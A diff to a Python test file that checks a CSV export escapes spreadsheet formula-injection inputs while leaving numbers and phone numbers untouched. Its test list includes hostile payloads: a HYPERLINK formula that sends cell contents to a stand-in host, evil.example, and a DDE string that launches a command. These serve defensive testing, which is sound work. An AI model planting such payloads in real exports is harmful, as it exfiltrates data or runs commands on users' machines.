@@ -117,6 +117,7 @@ def test_unknown_kind_or_format_is_refused_by_the_parser():
         '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
         "+1+cmd|' /C calc'!A0",
         "-2+3",
+        "-1)*HYPERLINK(1",
         "@SUM(1,2)",
         "\t=1+1",
         "\r=1+1",
@@ -156,10 +157,11 @@ def test_export_files_are_utf8_with_a_byte_order_mark_for_excel(ward, tmp_path):
     assert "Łucji, café au lait, خبز" in data.decode("utf-8-sig")
 
 
-def test_numbers_are_not_escaped(ward):
-    make_ask(what="Bread")
+def test_numbers_and_phone_numbers_are_not_escaped(ward):
+    make_ask(what="Bread", contact_phone="+44 20 7946 0000")
 
-    rows = list(csv.DictReader(io.StringIO(export("asks"))))
+    rows = list(csv.DictReader(io.StringIO(export("asks", "--with-contact"))))
 
     assert not rows[0]["urgency"].startswith("'")
     assert not rows[0]["id"].startswith("'")
+    assert rows[0]["phone"] == "+44 20 7946 0000"
